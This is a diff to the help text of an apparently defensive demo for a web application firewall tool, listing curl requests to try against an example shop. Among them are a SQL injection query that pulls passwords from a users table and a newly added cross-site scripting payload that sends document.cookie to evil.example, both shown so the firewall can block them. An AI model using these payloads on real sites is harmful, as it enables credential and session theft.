@@ -69,9 +69,12 @@ Try, in another terminal:
   curl -i ${url}/api/headers
   curl -i --get --data-urlencode "q=lantern" ${url}/search
   curl -i --get --data-urlencode "q=1' UNION SELECT password FROM users--" ${url}/search
+  curl -i --get --data-urlencode 'q=<script>fetch("//evil.example?"+document.cookie)</script>' ${url}/search
   curl -i ${url}/admin
 
-The last two are blocked by rules of examples/shop/sallyport.yaml; edit that file and it is swapped in at once.
+The last three are blocked: two attacks by the web application firewall, whose events stand in the lines below, and the stock
+room by a rule of examples/shop/sallyport.yaml; edit that file and it is swapped in at once. What the firewall saw, and how
+to let a request through: npx sallyport explain examples/shop/sallyport.yaml 'GET ${url}/search?q=...'
 Ctrl-C stops everything. One line per request follows.
 
 `;
